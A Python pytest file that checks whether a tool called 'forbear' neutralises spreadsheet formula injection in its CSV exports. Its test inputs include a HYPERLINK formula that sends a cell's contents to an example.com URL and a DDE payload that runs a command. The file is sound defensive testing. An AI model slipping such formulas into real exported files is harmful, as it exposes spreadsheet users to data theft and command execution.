"""No table that leaves forbear holds a cell that a spreadsheet program takes for a formula."""

import csv
import datetime as dt
import io

import pytest

from forbear.cli import outcomes, rates
from forbear.office.audit import listing

FORMULAS = ('=HYPERLINK("http://example.com/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1+1", "\r=cmd|' /C calc'!A0")


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def tables(formula):
    yield "rates", rates.as_csv([{"court": formula, "day": dt.date(2026, 1, 1), "note": [formula, "and more"]}])
    yield "outcomes", outcomes._csv([{"asked": formula}])
    yield "log", listing._row(("1", "", formula, formula, "", "", ""))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_leaves_as_text(formula):
    for name, table in tables(formula):
        held = [cell for cell in cells(table) if formula.strip() in cell]
        assert held, name
        assert all(cell.startswith("'") for cell in held), name
